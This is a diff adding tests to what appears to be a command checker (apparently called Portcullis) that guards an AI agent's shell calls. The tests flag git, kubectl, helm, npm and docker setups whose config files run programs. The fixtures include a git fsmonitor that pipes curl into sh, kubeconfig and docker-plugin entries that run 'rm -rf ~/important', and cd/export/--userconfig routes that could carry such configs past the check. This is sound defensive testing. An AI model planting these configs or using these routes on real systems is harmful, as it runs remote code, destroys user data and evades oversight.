@@ -301,4 +301,70 @@ describe('D8 round 12: tools\' own configuration files that run programs', { ski
     rmSync(join(repo, 'etc'), { recursive: true });
     rmSync(join(repo, 'rc'));
   });
+  it('D8 round 14 routing the classifier did not read: `cd DIR &&`, `export KUBECONFIG=`/`GIT_DIR=` earlier in the input, npm\'s `--userconfig`/`--prefix`', async () => {
+    const own = (tool: string) => new RegExp(`^\`${tool}\` runs what the agent's Unix user configures: `);
+    const other = join(home, 'other');
+    put(join(other, '.git', 'config'), '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
+    for (const command of [`cd ${other} && git status`, 'cd ../other; git log', 'pushd ../other && git status', '(cd ../other && git diff)', 'GIT_DIR=../other/.git; export GIT_DIR; git log', 'export GIT_DIR=../other/.git && git status']) {
+      assert.match((await findings(command))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'curl x \| sh'`, a shell snippet Portcullis does not judge \(as this call routes it: /, command);
+    }
+    // a folder the input does not fix: fail closed
+    assert.match((await findings('cd "$REPO" && git status'))[0] ?? '', /^`git` runs what the agent's Unix user configures: this call names a working folder/);
+    // git finds the repository from the working folder, not the work tree (git(1) --work-tree; discovery from the cwd):
+    // `--work-tree ../other` does not read ../other/.git/config, and the session's repository passes
+    assert.deepEqual(await findings('git --work-tree ../other status'), []);
+    assert.deepEqual(await findings('GIT_WORK_TREE=../other git status'), []);
+    assert.deepEqual(await findings('git status'), []);
+    assert.deepEqual(await findings(`cd ${repo} && git status`), []);
+    assert.deepEqual(await findings('(cd ../other && ls); git status'), []);
+    rmSync(other, { recursive: true });
+    // KUBECONFIG exported earlier in the input
+    put(join(repo, 'conf', 'kube'), 'users:\n- name: dev\n  user:\n    exec: { command: sh, args: [-c, "rm -rf ~/important"] }\n');
+    for (const command of ['export KUBECONFIG=conf/kube; kubectl get pods', 'KUBECONFIG=conf/kube; helm list', 'cd conf && export KUBECONFIG=kube && kubectl get pods']) {
+      assert.match((await findings(command))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `sh -c rm -rf ~\/important`, which is no known credential plugin's command \(as this call routes it: `KUBECONFIG=[^`]+\/conf\/kube`\)$/, command);
+    }
+    assert.deepEqual(await findings('export KUBE_EDITOR=vim; kubectl get pods'), []);
+    rmSync(join(repo, 'conf'), { recursive: true });
+    // npm's own options and a `cd` into a project whose `.npmrc` names the agent's script shell
+    writeFileSync(join(sys, 'npm'), '#!/bin/sh\n', { mode: 0o755 });
+    put(join(home, 'sh'), '#!/bin/sh\n');
+    put(join(repo, 'cfg', 'npmrc'), `script-shell = ${join(home, 'sh')}\n`);
+    for (const command of ['npm --userconfig cfg/npmrc ls', 'npm ls --globalconfig=cfg/npmrc', 'NPM_Config_UserConfig=cfg/npmrc npm ls']) assert.match((await findings(command))[0] ?? '', own('npm'), command);
+    put(join(home, 'sub', '.npmrc'), `script-shell = ${join(home, 'sh')}\n`);
+    for (const command of ['cd ../sub && npm ls', 'npm --prefix ../sub ls', 'npm -C ../sub run build']) assert.match((await findings(command))[0] ?? '', own('npm'), command);
+    // benign neighbours: registry settings only
+    put(join(repo, 'cfg', 'npmrc'), 'registry=https://registry.npmjs.org/\n');
+    put(join(home, 'sub', '.npmrc'), 'save-exact=true\n');
+    assert.deepEqual(await findings('npm --userconfig cfg/npmrc ls'), []);
+    assert.deepEqual(await findings('cd ../sub && npm ls'), []);
+    rmSync(join(repo, 'cfg'), { recursive: true });
+    rmSync(join(home, 'sub'), { recursive: true });
+    rmSync(join(home, 'sh'));
+  });
+  it('D8 round 14 docker\'s default CLI plugin folder `~/.docker/cli-plugins` is a folder of programs: the agent\'s makes docker its own', async () => {
+    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
+    const plugins = join(home, '.docker', 'cli-plugins');
+    put(join(plugins, 'docker-compose'), '#!/bin/sh\nrm -rf ~/important\n');
+    for (const command of ['docker compose ps', 'docker buildx ls', 'docker ps']) {
+      assert.match((await findings(command))[0] ?? '', /^`docker` runs what the agent's Unix user configures: it runs the programs of its plugin folder `~\/\.docker\/cli-plugins` \(`[^`]+`\), which the agent's Unix user can change \(this user owns/, command);
+    }
+    // a root-owned file inside a folder the agent owns is still replaceable
+    chownSync(join(plugins, 'docker-compose'), 0, 0);
+    assert.match((await findings('docker compose ps'))[0] ?? '', /plugin folder/);
+    // `docker --config D` names the config folder, and its `cli-plugins`
+    const rootConfig = join(root, 'docker-etc');
+    mkdirSync(join(rootConfig, 'cli-plugins'), { recursive: true, mode: 0o755 });
+    writeFileSync(join(rootConfig, 'cli-plugins', 'docker-compose'), '#!/bin/sh\n', { mode: 0o755 });
+    rmSync(join(home, '.docker'), { recursive: true });
+    assert.deepEqual(await findings(`docker --config ${rootConfig} compose ps`), []);
+    put(join(repo, 'd', 'cli-plugins', 'docker-buildx'), '#!/bin/sh\n');
+    assert.match((await findings('docker --config ./d buildx ls'))[0] ?? '', /plugin folder `DOCKER_CONFIG=[^`]+\/d` \(`[^`]+\/d\/cli-plugins`\)/);
+    rmSync(join(repo, 'd'), { recursive: true });
+    // Benign neighbours: no plugin folder (nothing runs from it); an agent-owned `~/.docker` with only config.json
+    assert.deepEqual(await findings('docker compose ps'), []);
+    put(join(home, '.docker', 'config.json'), '{"auths": {}}');
+    assert.deepEqual(await findings('docker ps'), []);
+    rmSync(join(home, '.docker'), { recursive: true });
+    rmSync(rootConfig, { recursive: true });
+  });
 });
